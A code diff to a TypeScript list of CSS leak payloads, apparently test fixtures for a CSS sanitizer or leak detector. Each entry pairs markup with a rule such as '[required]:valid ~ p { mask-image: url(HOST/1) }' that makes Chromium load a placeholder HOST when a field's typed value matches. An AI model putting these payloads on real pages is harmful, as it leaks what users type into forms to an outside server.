@@ -8,7 +8,9 @@ export type LeakPayload = readonly [html: string, css: string, loads: string, ty
 
 const field = `<input pattern="4.*" required>`;
 const form = `<form data-form="lead">${field}</form>`;
-const seen = "input:valid";
+const text = `${field}<p>x</p>`;
+// Not the field that the script adds to forms.
+const seen = "[required]:valid";
 
 /** These load in Chromium once something is typed. */
 export const leaking: readonly LeakPayload[] = [
@@ -19,9 +21,9 @@ export const leaking: readonly LeakPayload[] = [
   [field, `${seen} { background: -webkit-image-set(url(HOST/1) 1x) }`, "image-set()", "<input>"],
   [field, `${seen} { --a: url(HOST/1); background: var(--a) }`, "url(", "<input>"],
   [field, `${seen} { list-style: url(HOST/1); display: list-item }`, "url(", "<input>"],
-  [field, `${seen} ~ p::before { content: url(HOST/1) }`, "url(", "<input>"],
-  [field, `${seen} ~ p { border-image: url(HOST/1) 1 }`, "url(", "<input>"],
-  [field, `${seen} ~ p { mask-image: url(HOST/1) }`, "url(", "<input>"],
+  [text, `${seen} ~ p::before { content: url(HOST/1) }`, "url(", "<input>"],
+  [text, `${seen} ~ p { border-image: url(HOST/1) 1 }`, "url(", "<input>"],
+  [text, `${seen} ~ p { mask-image: url(HOST/1) }`, "url(", "<input>"],
   [
     `<textarea required></textarea><p>x</p>`,
     `:valid + p { background: url(HOST/1) }`,
